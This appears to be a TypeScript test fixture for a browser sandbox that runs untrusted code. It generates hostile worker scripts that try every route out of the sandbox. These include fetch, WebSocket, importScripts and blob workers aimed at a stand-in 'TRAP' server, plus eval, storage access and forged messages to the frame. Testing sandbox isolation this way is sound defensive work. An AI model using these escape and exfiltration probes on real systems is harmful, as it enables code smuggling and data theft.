/**
 * A worker whose program has broken out of everything that its realm takes away from it: what stands then is the policy of the
 * frame, and the page's distrust. It is put in the place of the runner's own worker.
 */

/** Tries each way to a server, and tells what it says of each. `TRAP` stands for the server. */
export const TRIES: Readonly<Record<string, string>> = {
  fetch: "await fetch('http://TRAP/fetch')",
  'fetch without CORS':
    "await fetch('http://TRAP/no-cors', {mode: 'no-cors', method: 'POST', keepalive: true, body: 'x'})",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', 'http://TRAP/xhr', false); x.send()",
  WebSocket: "new WebSocket('ws://TRAP/socket')",
  EventSource: "new EventSource('http://TRAP/events')",
  importScripts: "importScripts('http://TRAP/scripts')",
  'import()': "await import('http://TRAP/module')",
  'a worker from a URL': "new Worker('http://TRAP/worker')",
  'a worker from a blob':
    'new Worker(URL.createObjectURL(new Blob([\'fetch("http://TRAP/nested-fetch"); importScripts("http://TRAP/nested-scripts")\'])))',
  'a script from a blob':
    'importScripts(URL.createObjectURL(new Blob([\'fetch("http://TRAP/blob-fetch"); importScripts("http://TRAP/blob-scripts")\'])))',
};

/** More than the network: what belongs to the page's origin, and what only a policy forbids. */
export const REACHES: Readonly<Record<string, string>> = {
  IndexedDB:
    "await new Promise((done, no) => { const r = indexedDB.open('hostile'); r.onsuccess = done; r.onerror = no; })",
  caches: "await caches.open('hostile')",
  files: "await (await navigator.storage.getDirectory()).getFileHandle('hostile', {create: true})",
  'code from a text': "eval('1')",
  'a function from a text': "new Function('1')()",
  WebAssembly: 'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
  'a message to the page': "new BroadcastChannel('canary').postMessage('hostile'); throw 'nobody hears it'",
  'orders to the frame':
    "postMessage({start: 99}); postMessage({stop: 1}); postMessage({cannotStart: 1}); throw 'nobody hears them'",
};

/** A worker that says it is ready, and at the job makes its attempts; each that is not refused is a line. */
export function attempts(tries: Readonly<Record<string, string>>): string {
  const each = Object.entries(tries).map(
    ([name, code]) =>
      `try { await (async () => { ${code} })(); say(${JSON.stringify(name)}); } catch (error) { reasons.push(String(error)); }`,
  );
  return `onmessage = ({ports: [port]}) => {
  const reasons = [];
  const say = (text) => port.postMessage(JSON.stringify({kind: 'line', level: 'log', text}));
  port.onmessage = async () => {
    port.postMessage('begun');
    ${each.join('\n    ')}
    await new Promise((resolve) => setTimeout(resolve, 500));
    port.postMessage('{"kind":"end"}');
  };
  port.postMessage('ready');
};`;
}

/** A worker that takes its job, but instead of running it does this with the port to the page. */
export function onPort(code: string): string {
  return `onmessage = ({ports: [port]}) => {
  port.onmessage = () => { port.postMessage('begun'); ${code} };
  port.postMessage('ready');
};`;
}
